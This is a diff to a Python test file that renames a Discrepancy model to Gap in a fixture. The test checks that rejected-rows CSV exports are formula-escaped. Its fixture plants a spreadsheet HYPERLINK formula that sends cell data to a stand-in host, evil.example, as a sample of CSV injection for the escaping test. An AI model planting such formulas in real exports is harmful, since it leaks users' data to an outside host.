@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 
 from invoices.models import ImportBatch, ImportKind, ImportRejection
 from outage_portal.spreadsheets import escape_cell
-from recovery.models import Discrepancy
+from recovery.models import Gap
 from tests.recovery.reissue.fixtures import make_gaps
 
 PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -44,7 +44,7 @@ def test_the_rejected_rows_csv_is_formula_escaped(client_for, alice, beijing):
 @pytest.fixture
 def planted_gap(beijing):
     gap = make_gaps(beijing, 1)[0]
-    Discrepancy.objects.filter(pk=gap.pk).update(explanation=PLANTED, amount_at_risk=Decimal("-12.50"))
+    Gap.objects.filter(pk=gap.pk).update(explanation=PLANTED, amount_at_risk=Decimal("-12.50"))
     return gap
 
 
